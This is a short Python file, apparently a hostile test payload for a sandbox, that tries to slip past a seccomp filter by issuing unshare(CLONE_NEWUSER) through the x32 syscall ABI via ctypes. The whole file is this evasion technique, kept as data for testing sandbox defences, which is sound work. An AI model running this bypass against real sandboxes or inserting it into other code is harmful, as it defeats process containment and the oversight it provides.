# ruff: noqa  (hostile payload: data for the sandbox, not project code)
"""Dodge a seccomp filter written for x86_64 numbers by using the x32 ABI (nr | 0x40000000)."""

import ctypes
import os

X32 = 0x40000000


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    result = libc.syscall(X32 | 272, 0x10000000)  # unshare(CLONE_NEWUSER)
    return [result, os.strerror(ctypes.get_errno())]
